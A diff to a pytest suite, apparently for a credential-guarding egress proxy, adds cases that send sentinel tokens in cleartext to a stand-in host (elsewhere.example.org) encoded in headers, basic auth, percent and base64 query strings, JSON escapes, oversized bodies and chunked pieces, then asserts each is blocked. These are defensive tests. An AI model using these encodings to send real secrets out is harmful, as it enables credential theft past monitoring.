@@ -92,6 +92,27 @@ printf '\0\0\0\0\2{}' | ask grpc -H 'content-type: application/grpc' -H 'grpc-en
 ask type -H 'content-type: text/plain' -d "client_secret=$LOGIN" $l/echo
 ask malformed -H "$json" -d "{\"auth\":[{\"secret\":\"$LOGIN\",\"secret\":\"$LOGIN\"}]}" $l/echo
 head -c 300000 /dev/zero | tr '\0' x | ask large -H "$form" --data-binary @- $l/echo
+
+c=http://elsewhere.example.org o=http://www.example.org
+ask clear-header -H "x-token: $TOKEN" $c/
+ask clear-own-host -H "x-token: $TOKEN" $o/v1/x
+ask clear-basic -u "me:$TOKEN" $c/
+ask clear-percent "$c/?q=%67%68%70_${TOKEN#ghp_}"
+ask clear-base64 "$c/?q=$(printf 'xy%s' "$TOKEN" | base64 -w0)"
+ask clear-proxy -x http://10.255.255.1:3128 -H "x-token: $LOGIN" $c/
+ask clear-body -d "note=$TOKEN" $c/echo
+ask clear-body-json -H "$json" -d "{\"note\":\"\u0067hp_${TOKEN#ghp_}\"}" $c/echo
+(head -c 3000000 /dev/zero | tr '\0' x; printf ' %s' "$LOGIN") | ask clear-body-deep -H 'content-type: text/plain' --data-binary @- $c/echo
+python3 - <<'X'
+# in a second request on a connection, in pieces, each in a chunk of its own
+import http.client, os
+c = http.client.HTTPConnection("elsewhere.example.org", timeout=20)
+for name, text in ("clear-pieces-control", os.environ["TOKEN"][:-1]), ("clear-pieces", os.environ["TOKEN"]):
+    c.request("POST", "/echo", body=(x.encode() for x in "a=" + text), headers={"x-case": name}, encode_chunked=True)
+    r = c.getresponse(); print(r.read().decode()); print("==", name, r.status)
+X
+ask clear-control -H "x-token: ${TOKEN%?}" -d "note=${TOKEN%?}" $c/echo
+ask clear-proxy-control -x http://10.255.255.1:3128 $c/
 ask control $e/
 """
 
@@ -191,6 +212,23 @@ def test_refused(ran, name, status, reason):
     assert name not in ran.origin or (name.startswith("misuse-body") and ran.origin[name]["body"] == "")
 
 
+CLEAR = ("clear-header", "clear-own-host", "clear-basic", "clear-percent", "clear-base64", "clear-proxy", "clear-body", "clear-body-json", "clear-body-deep", "clear-pieces")
+
+
+@pytest.mark.parametrize("name", CLEAR)
+def test_blocked_in_cleartext(ran, name):
+    """By the proxy, which reads it: on any host, the credential's own too, since nothing is put in its place there."""
+    assert ran.status[name] == "403"
+    answer = ran.stdout[:ran.stdout.index(f"\n== {name} ")].splitlines()[-1]
+    assert json.loads(answer)["reason"] == "credential-misuse"
+    assert name not in ran.origin
+
+
+def test_the_same_without_a_sentinel(ran):
+    assert [ran.status[name] for name in ("clear-control", "clear-pieces-control", "clear-proxy-control")] == ["200"] * 3
+    assert ran.origin["clear-control"]["body"] == "note=" + ran.sentinel["TOKEN"][:-1]
+
+
 def test_no_sentinel_arrives(ran, world):
     """In no form that can be read: over all that any server of the world has seen."""
     seen = "\n".join(json.dumps(entry) for log in ("origin", "provider", "other", "web", "git") for entry in world.log(log))
@@ -255,4 +293,6 @@ def test_records(host, ran):
     misuse = records("credential.misuse")
     assert {record["name"] for record in misuse} == {"elsewhere.example.org", "www.example.org", "login.example.org"}
     assert {"test-token", "test-login"} == {record["credential"] for record in misuse}
+    clear = {(record["name"], record["credential"], record["where"]) for record in misuse if record["port"] == 80}
+    assert clear >= {("elsewhere.example.org", "test-token", "x-token"), ("elsewhere.example.org", "test-login", "x-token"), ("www.example.org", "test-token", "x-token")}
     assert {"foreign-credential", "credential-scope", "cannot-substitute", "body-type", "body-too-large"} <= {r["reason"] for r in records("conn.deny")}
